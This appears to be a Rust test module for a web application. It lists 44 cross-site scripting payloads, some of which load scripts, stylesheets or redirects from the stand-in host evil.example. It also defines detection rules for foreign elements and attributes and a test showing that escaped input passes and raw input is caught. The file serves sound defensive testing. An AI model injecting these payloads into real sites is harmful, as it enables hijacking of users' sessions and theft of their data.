//! What a browser would run or load if a page let it through, and how to see that a page did.

use axum::http::{HeaderMap, StatusCode};
use testkit::Seen;

/// Ways out of text, of attributes, of elements and of templates.
pub const PAYLOADS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "\"><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<!--",
    "{{ shell.base_url }}{% raw %}{# <![CDATA[ -->",
];

/// Elements no page and no letter of ours has.
const FOREIGN: [&str; 16] = [
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "frame",
    "marquee",
    "math",
    "audio",
    "video",
    "source",
    "animate",
    "set",
    "foreignobject",
    "zq-x",
    "portal",
];
/// Attributes that hold an address.
const ADDRESSES: [&str; 6] = ["href", "src", "action", "formaction", "data", "xlink:href"];

/// The payload of that number, with the name of its field before it, and two marks after it: an element that no page
/// has, and an attribute for each kind of quote.
pub fn marked(field: &str, number: usize) -> String {
    let payload = PAYLOADS[number % PAYLOADS.len()];
    format!("Zq{field} {payload} <zq-x>\" zq-a=\"1' zq-b='1")
}

/// Some HTML, as a page: a letter, say.
pub fn page(html: &str) -> Seen {
    let (headers, body) = (HeaderMap::new(), html.as_bytes().to_vec());
    Seen { status: StatusCode::OK, headers, path: "a letter".to_owned(), body, route: None }
}

/// Asserts that a page holds nothing but markup of ours.
#[track_caller]
pub fn assert_ours(seen: &Seen, what: &str) {
    assert_eq!(foreign(seen), None, "{what}");
}

/// The first markup of a page that is not ours.
fn foreign(seen: &Seen) -> Option<String> {
    seen.elements().into_iter().find_map(|(name, attributes)| {
        let source = attributes.iter().find(|(name, _)| name == "src");
        let source = source.map_or("", |(_, value)| value.as_str());
        let from_here = source.starts_with('/') && !source.starts_with("//");
        let ours = match name.as_str() {
            "script" => source.starts_with("/assets/"),
            // Letters carry the address of the site.
            "img" => {
                from_here
                    || source.starts_with("data:image/")
                    || source.starts_with("http://localhost:5000/")
            }
            _ => !FOREIGN.contains(&name.as_str()),
        };
        let attribute = attributes.iter().find(|(key, value)| is_foreign(&name, key, value));
        (!ours || attribute.is_some()).then(|| format!("<{name}> of {source:?}, {attribute:?}"))
    })
}

fn is_foreign(element: &str, name: &str, value: &str) -> bool {
    if name.starts_with("on") || name.starts_with("zq") || name == "srcdoc" {
        return true;
    }
    let value: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    let value = value.to_ascii_lowercase();
    let runs = ["javascript:", "vbscript:", "data:text"].iter().any(|kind| value.starts_with(kind));
    let leaves = matches!(element, "form" | "button" | "link" | "script" | "img")
        && value.contains("//evil.example");
    let refreshes = element == "meta" && name == "http-equiv" && value == "refresh";
    (ADDRESSES.contains(&name) && (runs || leaves)) || refreshes
}

#[test]
fn s44_what_a_page_lets_through_is_seen() {
    for number in 0..PAYLOADS.len() {
        let raw = marked("raw", number);
        let escaped = raw.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
        let page = |title: &str, words: &str| page(&format!("<p title=\"{title}\">{words}</p>"));
        assert_eq!(foreign(&page(&escaped, &escaped)), None, "{raw}");
        assert!(foreign(&page(&raw, "")).is_some(), "{raw}");
        let hides = raw.contains("<!--") || raw.ends_with("-->");
        assert!(hides || foreign(&page("", &raw)).is_some(), "{raw}");
    }
}
